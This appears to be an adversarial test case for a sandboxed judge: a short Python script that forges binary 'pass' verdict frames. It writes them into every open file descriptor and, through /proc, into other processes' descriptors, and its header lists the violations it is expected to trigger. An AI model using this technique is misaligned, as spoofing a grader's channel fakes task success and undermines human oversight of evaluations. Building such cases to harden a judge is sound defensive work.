# attack: writes the frames of a pass into every descriptor, and into those of other processes
# shape: action
# causes: PROTOCOL_VIOLATION, WRONG_ANSWER
import glob
import os
import struct


def attack() -> None:
    body = struct.pack(">IBB", 0, 1, 0)
    said = struct.pack(">IBI", 4, ord("p"), 1) + struct.pack(">IB", len(body), ord("t")) + body + struct.pack(">IB", 0, ord("d"))
    for fd in range(3, 256):
        try:
            os.write(fd, said)
        except OSError:
            pass
    for path in glob.glob("/proc/*/fd/*") + glob.glob("/proc/*/task/*/fd/*"):
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, said)
            os.close(fd)
        except OSError:
            pass
